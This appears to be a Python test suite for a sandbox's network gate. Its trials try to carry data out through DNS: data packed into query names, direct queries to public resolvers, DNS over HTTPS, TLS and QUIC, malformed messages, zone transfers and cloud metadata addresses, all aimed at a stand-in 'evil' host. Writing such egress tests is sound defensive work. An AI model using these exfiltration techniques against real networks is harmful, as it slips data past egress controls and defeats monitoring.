"""Carrying data out by asking for names, and other games with DNS."""

import base64
import os
import socket
import struct
import time

import hello
import names
from core import Outcome, reached, refused, trial
from names import A, AAAA, ANY, AXFR, Answer, CNAME, HTTPS, MX, NULL, PTR, SRV, TXT, ask, question
from talk import fetch, get, say

CLOSED = "none allow"
ALL = "none allow internet"
SYNTHETIC = "198.1"  # 198.18.0.0/15


def outcome(answer):
    """What an answer to an attack is: a refusal, or more than should be told."""
    if not isinstance(answer, Answer):
        return answer
    if answer.rcode in (1, 3, 4, 5):
        return refused(str(answer))
    if answer.rcode == 0 and not answer.records:
        return refused("NOERROR with nothing in it")
    return reached(f"{answer} with {len(answer.records)} records")


# Data in the name: with an open internet the name may exist, and the answer is our own.
KINDS = {"a": A, "aaaa": AAAA, "cname": CNAME, "mx": MX, "null": NULL, "txt": TXT, "srv": SRV,
         "any": ANY, "ns": 2, "ptr": PTR, "https": HTTPS, "private": 65399}


def kinds(name, kind):
    @trial(f"dns-{name}", f"asks for type {name.upper()} of a name that is not allowed",
           attack=CLOSED)
    def denied(box):
        return outcome(ask(box, "data." + box.evil, kind))

    if kind not in (A, AAAA):
        @trial(f"dns-{name}-open", f"asks for type {name.upper()} of a name that is allowed",
               attack="allow internet", needs="world")
        def allowed(box):
            # Below "*.wild.test", which is allowed; the data is in the name.
            name = box.evil + ".wild.test" if box.level == "allow" else box.evil
            return outcome(ask(box, name, kind))


for _name, _kind in KINDS.items():
    kinds(_name, _kind)


@trial("dns-query-only", "asks for names with data in them, and never connects",
       attack="allow internet", needs="world")
def query_only(box):
    # Whatever the answer is: the world outside must not hear the question.
    for index in range(8):
        suffix = ".wild.test" if box.level == "allow" else ""
        answer = ask(box, f"{index}-{os.urandom(8).hex()}.{box.evil}{suffix}")
        if not isinstance(answer, Answer):
            return answer
        if any(not address.startswith(SYNTHETIC) for address in answer.addresses):
            return reached(f"an answer from outside: {answer.addresses}")
    return refused("answered by the gate alone")


@trial("dns-long-labels", "asks for the longest names", attack=CLOSED)
def long_labels(box):
    for labels in ((63, 63, 63), (63, 63, 63, 40), (1,) * 100):
        name = ".".join("x" * size for size in labels)[:252 - len(box.evil)] + "." + box.evil
        answer = outcome(ask(box, name.replace("..", ".")))
        if answer.what != "refused":
            return answer
    return answer


@trial("dns-binary", "asks for names with any bytes in them", attack=ALL)
def binary(box):
    for label in (os.urandom(32), b"\0" * 8, b"a.b", b"\xff" * 63):
        name = bytes([len(label)]) + label + names.pack(box.evil)
        answer = outcome(ask(box, None, message=question(name, A)))
        if answer.what == "reached":
            return answer
    return answer


@trial("dns-tcp", "asks over TCP", attack=CLOSED)
def over_tcp(box):
    return outcome(ask(box, "data." + box.evil, TXT, transport="tcp"))


SERVERS = {"google": "8.8.8.8", "quad9": "9.9.9.9", "cloudflare": "1.1.1.1", "private": "10.0.0.53"}


def servers(name, address):
    for transport in ("udp", "tcp"):
        @trial(f"dns-{name}-{transport}", f"asks {address} over {transport.upper()}", attack=ALL)
        def asks(box, transport=transport):
            kind = TXT if box.level == "internet" else A
            return outcome(ask(box, "data." + box.evil, kind, server=address, transport=transport))


for _name, _address in SERVERS.items():
    servers(_name, _address)


@trial("dns-spoken-53", "speaks something else on port 53", attack=ALL)
def not_dns(box):
    message = box.evil.encode().ljust(64, b"\0")
    return outcome(ask(box, None, server="8.8.8.8", message=message, transport="tcp"))


@trial("dns-udp-53", "sends something else to port 53", attack=ALL, quiet=True)
def not_dns_udp(box):
    return outcome(ask(box, None, server="8.8.8.8", message=box.evil.encode().ljust(64, b"\0"),
                       limit=0.5))


@trial("dns-additional", "hides data behind the question", attack=ALL, quiet=True)
def additional(box):
    """Answered or not: what stands behind the question must not arrive anywhere."""
    data = b"\0" + struct.pack(">HHIH", TXT, 1, 0, len(box.evil) + 1) + bytes(
        [len(box.evil)]) + box.evil.encode()
    plain = question("allowed.test", A, edns=False)
    more = plain[:10] + b"\0\1" + plain[12:] + data
    option = question("allowed.test", A, extra=struct.pack(">HH", 65001, len(box.evil)) +
                      box.evil.encode())
    for message in (more, option):
        answer = ask(box, None, message=message, limit=1.0)
        if isinstance(answer, Answer) and any(
                not address.startswith(SYNTHETIC) for address in answer.addresses):
            return reached(f"an answer from outside: {answer.addresses}")
    return refused("nothing goes on")


ODD = {
    "two-questions": lambda m: m[:4] + b"\0\2" + m[6:] + m[12:],
    "no-question": lambda m: m[:4] + b"\0\0" + m[6:],
    "response": lambda m: m[:2] + b"\x81\x80" + m[4:],
    "pointer": lambda m: m[:12] + b"\xc0\x0c\0\1\0\1" + m[12:],
    "update": lambda m: m[:2] + b"\x28\0" + m[4:],
    "notify": lambda m: m[:2] + b"\x20\0" + m[4:],
    "cut": lambda m: m[:-3],
}


def odd(name, change):
    @trial(f"dns-odd-{name}", f"sends a message of DNS that is odd: {name.replace('-', ' ')}",
           attack=ALL, quiet=True)
    def sends(box):
        message = change(question(box.evil, A, edns=False))
        return outcome(ask(box, None, message=message, limit=0.5))


for _name, _change in ODD.items():
    odd(_name, _change)


@trial("dns-transfer", "asks for a whole zone", attack=ALL)
def transfer(box):
    return outcome(ask(box, box.evil, AXFR, transport="tcp"))


@trial("dns-chaos", "asks in the class CHAOS", attack=ALL)
def chaos(box):
    return outcome(ask(box, None, message=question(box.evil, TXT, klass=3)))


@trial("doh-address", "asks a public resolver over HTTPS, by its number", attack=CLOSED)
def doh_address(box):
    return say(box, "1.1.1.1", 443, hello.hello("cloudflare-dns.com", said=box.evil.encode()))


@trial("doh-name", "asks a public resolver over HTTPS, by its name", attack=CLOSED, needs="world")
def doh_name(box):
    return fetch(box, "doh.test", "/dns-query?dns=" + encoded(box))[0]


@trial("doh-open", "asks a public resolver over HTTPS, by its name", legitimate="internet",
       needs="world")
def doh_open(box):
    return fetch(box, "doh.test", "/dns-query?dns=" + encoded(box))[0]


def encoded(box):
    return base64.urlsafe_b64encode(question(box.evil, A, id=0)).decode().rstrip("=")


@trial("dot", "asks a public resolver over TLS", attack=CLOSED)
def dot(box):
    return say(box, "1.1.1.1", 853, hello.hello("one.one.one.one", said=box.evil.encode()))


@trial("doq", "asks a public resolver over QUIC", attack=ALL)
def doq(box):
    from datagrams import quic_initial, send
    return send(box, "94.140.14.14", 853, quic_initial(box.evil.encode()))


@trial("dns-synthetic", "connects to addresses of our own that stand for no name", attack=ALL,
       limit=6.0)
def synthetic(box):
    for address in ("198.18.0.0", "198.18.255.254", "198.19.200.7", "198.19.255.255"):
        result = say(box, address, 7777, box.word)
        if result.what != "refused":
            return result
    return result


@trial("dns-name-is-number", "asks for names that are numbers", attack=ALL)
def numbers(box):
    """A resolver library takes these for addresses, and would find them without asking anyone."""
    for name in ("169.254.169.254", "2852039166", "0xa9fea9fe", "10.5", "127.1", "0"):
        answer = ask(box, name)
        if isinstance(answer, Answer) and answer.rcode == 0 and answer.addresses:
            result = say(box, answer.addresses[0], 80, get(box.evil))
            if result.what != "refused":
                return Outcome(result.what, f"{name}: {result.how}")
    return refused("each")


def told(answer):
    """What an answer to an honest question is: it must hold an address."""
    addresses = isinstance(answer, Answer) and answer.addresses
    return reached(str(addresses)) if addresses else refused(str(answer))


@trial("dns-answer", "asks for a name that is allowed", legitimate="allow internet", needs="world")
def answers(box):
    return told(ask(box, "allowed.test"))


@trial("dns-answer-tcp", "asks for a name that is allowed, over TCP", legitimate="allow internet",
       needs="world")
def answers_tcp(box):
    return told(ask(box, "allowed.test", transport="tcp"))


@trial("dns-answer-other", "asks another server for a name that is allowed",
       legitimate="allow internet", needs="world")
def answers_other(box):
    return told(ask(box, "allowed.test", server="8.8.4.4"))


@trial("dns-case", "asks in letters of mixed size, as resolvers do against forgers",
       legitimate="allow internet", needs="world")
def mixed_case(box):
    answer = ask(box, "aLLoWeD.TesT")
    ok = isinstance(answer, Answer) and answer.addresses and b"aLLoWeD" in answer.message
    return reached("in the same letters") if ok else refused(str(answer))


@trial("dns-no-ipv6", "asks for IPv6 addresses, and is told that there are none",
       legitimate="allow internet", needs="world")
def no_ipv6(box):
    for kind in (AAAA, HTTPS):
        answer = ask(box, "allowed.test", kind)
        if not (isinstance(answer, Answer) and answer.rcode == 0 and not answer.records):
            return refused(f"{kind}: {answer}")
    return reached("nothing, without an error")


@trial("dns-library", "resolves through the system's own library", legitimate="allow internet",
       needs="world system_resolver")
def library(box):
    begun = time.monotonic()
    try:
        found = socket.getaddrinfo("allowed.test", 443, type=socket.SOCK_STREAM)
    except OSError as error:
        return refused(str(error))
    return reached(f"{found[0][4][0]} in {time.monotonic() - begun:.2f} s")


@trial("dns-library-denied", "resolves a denied name through the system's own library",
       attack=CLOSED, needs="system_resolver")
def library_denied(box):
    try:
        return reached(str(socket.getaddrinfo("data." + box.evil, 443)[0][4][0]))
    except OSError as error:
        return refused(str(error))
